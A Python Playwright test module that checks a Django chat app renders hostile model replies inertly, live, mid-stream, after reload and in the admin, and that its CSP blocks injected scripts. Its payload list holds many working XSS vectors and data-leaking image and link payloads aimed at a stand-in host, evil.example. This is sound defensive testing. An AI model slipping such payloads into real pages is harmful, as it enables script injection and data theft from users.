"""Untrusted model output in a real Chromium: a hostile reply, streamed from the loopback
model through the app, runs nothing, injects nothing and loads nothing from another host,
in the chat page (live and reloaded), its forms and the admin."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from conversations.models import ChatSession, Message
from loopback.upstream import Behaviour
from tests.browser.conftest import log_in, wait_until
from tests.factories import UserFactory

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<svg onload=alert('svg')><circle r=1/></svg>",
    "<svg><script>alert('svg-script')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "[js](javascript:alert('js'))",
    "[JS](JaVaScRiPt:alert('JS'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[entity](&#106;avascript:alert('md-entity'))",
    "<a href=\"&#106;avascript:alert('entity-link')\">entity link</a>",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<object data=\"javascript:alert('object')\"></object>",
    '<div onmouseover="alert(\'hover\')" style="position:fixed;inset:0">cover</div>',
    "<scr<script>ipt>alert('nested')</script>",
    '<img src="x" onerror="alert(\'unclosed\')"',
    "&lt;script&gt;alert('entity')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('numeric')&#62;",
    "![leak](https://evil.example/leak?data=secret)",
    "![leak2](//evil.example/protocol-relative.png)",
    '<img src="https://evil.example/raw.png">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/s.css'; body{background:url(https://evil.example/b)}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>go</button></form>',
    "`<script>alert('code')</script>`",
    "```html\n</code></pre><script>alert('fence')</script>\n```",
]
HOSTILE_REPLY = "\n\n".join(PAYLOADS)
HOSTILE_QUESTION = "<img src=x onerror=alert('user')> <script>alert('user')</script>"

DANGEROUS_TAGS = "script, img, svg, math, iframe, object, embed, link, style, meta, base, form"
# What the hostile text would leave behind if any of it became markup.
TRACES = r"alert|evil\.example|src=.x.|javascript:|data:text"

FIND = """([selector, tags, traces]) => {
    const root = document.querySelector(selector);
    const all = [...root.querySelectorAll('*')];
    const traced = new RegExp(traces);
    return {
        // Within message bodies nothing of these may exist at all; elsewhere (layout, admin)
        // no such element's own tag may carry a trace of the payloads.
        inMessages: [...document.querySelectorAll('.message-body')].flatMap(
            (body) => [...body.querySelectorAll(tags)].map((el) => el.outerHTML.slice(0, 120))),
        traced: [...root.querySelectorAll(tags)].map((el) => el.cloneNode(false).outerHTML)
            .filter((html) => traced.test(html)).map((html) => html.slice(0, 120)),
        handlers: all.filter((el) => [...el.attributes].some((a) => a.name.startsWith('on')))
            .map((el) => el.outerHTML.slice(0, 80)),
        styles: [...document.querySelectorAll('.message-body [style]')].length,
        titles: [...document.querySelectorAll('#conversation-title *, .session-link *')].length,
        links: [...root.querySelectorAll('a[href]')].map((a) => a.href)
            .filter((href) => !/^(https?:|mailto:)/i.test(href)),
        base: document.baseURI,
    };
}"""


# FIND run by the page itself on every animation frame while the last reply streams, with
# whether Markdown is already formatted then. The page keeps the samples, so however slow
# the test process is, every streaming frame is checked.
WATCH_STREAM = (
    """([selector, tags, traces]) => {
    const find = """
    + FIND
    + """;
    window.__samples = [];
    const sample = () => {
        const reply = [...document.querySelectorAll('.message-assistant')].pop();
        if (reply?.dataset.status === 'streaming') {
            const found = find([selector, tags, traces]);
            found.formatted = reply.querySelector('.message-body code, .message-body a') !== null;
            window.__samples.push(found);
        }
        if (!reply || reply.dataset.status === 'streaming') requestAnimationFrame(sample);
    };
    requestAnimationFrame(sample);
}"""
)


def record(page) -> dict:
    """Everything a page asks the network for, and every CSP violation it reports."""
    seen = {"requests": [], "csp": [], "failed": []}
    page.on("request", lambda request: seen["requests"].append(request.url))
    page.on(
        "requestfailed",
        lambda request: seen["failed"].append((request.url, request.failure)),
    )
    page.on(
        "console",
        lambda message: (
            "Content Security Policy" in message.text and seen["csp"].append(message.text)
        ),
    )
    return seen


def assert_inert(page, seen: dict, selector: str, live_app: str) -> None:
    page.wait_for_timeout(300)  # Let any injected handler or image have its chance.
    found = page.evaluate(FIND, [selector, DANGEROUS_TAGS, TRACES])
    assert found["inMessages"] == [] and found["traced"] == [], found
    assert found["handlers"] == [] and found["styles"] == 0 and found["titles"] == 0, found
    assert found["links"] == [], "javascript:, data: or other scheme links"
    assert found["base"].startswith(live_app), "a <base> redirected relative URLs"
    assert page.dialogs == [] and page.js_errors == []
    assert seen["csp"] == [], "the page tried something the CSP had to block"
    hosts = {urlsplit(url).hostname for url in seen["requests"]}
    assert hosts <= {"127.0.0.1"}, f"requests left for {hosts}"


def test_a_hostile_reply_is_inert_live_and_after_reload(live_app, page, upstream, user):
    seen = record(page)
    log_in(page.context, live_app, user)
    page.goto(live_app + "/")
    upstream.push(Behaviour(content=HOSTILE_REPLY, token_gap=0.002))

    composer = page.locator("#composer-input")
    composer.fill(HOSTILE_QUESTION)
    composer.press("Enter")
    reply = page.locator(".message-assistant").last
    expect(reply).to_have_attribute("data-status", "complete", timeout=30_000)
    expect(reply.locator(".message-body")).to_contain_text("alert('script')")
    stored = Message.objects.get(session__user=user, role="assistant")
    assert stored.content == HOSTILE_REPLY, "the payload reached the page unaltered"
    session = stored.session
    expect(page.locator("#conversation-title")).to_contain_text("onerror")

    assert_inert(page, seen, "body", live_app)
    page.hover(".message-assistant .message-body")
    assert page.dialogs == []

    page.reload()
    expect(page.locator(".message-assistant .message-body")).to_contain_text("alert('img')")
    assert_inert(page, seen, "body", live_app)
    for form in ("rename", "delete"):
        page.goto(f"{live_app}/c/{session.pk}/{form}/")
        assert_inert(page, seen, "body", live_app)
    assert len(seen["requests"]) > 3, "requests are being recorded"


def test_a_hostile_reply_is_inert_while_it_streams(live_app, page, upstream, user):
    """The same payloads (and the chat test's) checked again and again mid-stream, where the
    browser renders the growing Markdown itself (markdown-it and DOMPurify)."""
    from tests.browser.test_chat import HOSTILE

    seen = record(page)
    log_in(page.context, live_app, user)
    page.goto(live_app + "/")
    # About 30 pieces (the payloads hold few spaces): 0.2 s apart, the reply streams for
    # about 6 s, long enough for a slow browser to render it many times.
    upstream.push(Behaviour(content=f"{HOSTILE}\n\n{HOSTILE_REPLY}", token_gap=0.2))
    page.evaluate(WATCH_STREAM, ["#messages", DANGEROUS_TAGS, TRACES])
    composer = page.locator("#composer-input")
    composer.fill(HOSTILE_QUESTION)
    composer.press("Enter")
    reply = page.locator(".message-assistant").last
    expect(reply).to_have_attribute("data-status", "streaming")
    expect(reply).to_have_attribute("data-status", "complete", timeout=30_000)
    samples = page.evaluate("window.__samples")
    for found in samples:
        assert found["inMessages"] == [] and found["traced"] == [], found
        assert found["handlers"] == [] and found["styles"] == 0, found
        assert found["links"] == [], found
    formatted = sum(found["formatted"] for found in samples)
    assert len(samples) >= 10 and formatted >= 3, "checked while the browser rendered Markdown"
    assert_inert(page, seen, "body", live_app)


def test_a_hostile_reply_is_inert_in_the_admin(live_app, chromium, upstream, user):
    from django.test import Client

    session = ChatSession.objects.create(user=user, title=HOSTILE_QUESTION)
    Message.objects.create(session=session, sequence=1, role="user", content=HOSTILE_QUESTION)
    Message.objects.create(
        session=session, sequence=2, role="assistant", content=HOSTILE_REPLY, flagged=True
    )
    staff = UserFactory(is_staff=True, is_superuser=True)
    client = Client()
    client.force_login(staff)
    context = chromium.new_context()
    try:
        page = context.new_page()
        page.dialogs, page.js_errors = [], []
        page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: page.js_errors.append(str(error)))
        seen = record(page)
        context.add_cookies(
            [{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": live_app}]
        )
        reply = session.messages.get(role="assistant")
        for path in (
            "/admin/conversations/chatsession/",
            f"/admin/conversations/chatsession/{session.pk}/change/",
            "/admin/conversations/message/",
            f"/admin/conversations/message/{reply.pk}/change/",
        ):
            response = page.goto(live_app + path)
            assert response.status == 200, path
            assert page.get_by_text("alert(", exact=False).count() >= 1, path
            assert_inert(page, seen, "#content", live_app)
    finally:
        context.close()


def test_the_policy_itself_blocks_an_injected_inline_script(live_app, page, user):
    """Defence in depth: if markup ever slipped through, the CSP would still stop it."""
    seen = record(page)
    log_in(page.context, live_app, user)
    page.goto(live_app + "/")

    page.evaluate(
        """() => {
        const holder = document.createElement('div');
        holder.innerHTML = '<img src="https://evil.example/x.png" onerror="window.ran = 1">';
        document.body.append(holder);
        const script = document.createElement('script');
        script.textContent = 'window.ran = 2';
        document.body.append(script);
    }"""
    )
    # Chromium reports the block and the failed request as events, which can take a while.
    wait_until(
        lambda: seen["csp"] and ("https://evil.example/x.png", "csp") in seen["failed"],
        page=page,
        what="the CSP report and the blocked image",
    )

    assert page.evaluate("window.ran") is None
    assert seen["csp"], "Chromium reported the blocked script and image"
    assert "https://evil.example/x.png" in seen["requests"], "the image was attempted"
    elsewhere = [url for url in seen["requests"] if urlsplit(url).hostname != "127.0.0.1"]
    assert elsewhere and all((url, "csp") in seen["failed"] for url in elsewhere)


def test_the_api_docs_page_works_under_the_policy(live_app, page):
    """Swagger UI is served from local files only and needs no script the CSP forbids."""
    seen = record(page)

    page.goto(live_app + "/api/docs/")

    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Chatbot API")
    assert [
        violation for violation in seen["csp"] if "script" in violation
    ] == [] and page.js_errors == []
    assert {urlsplit(url).hostname for url in seen["requests"]} <= {"127.0.0.1"}
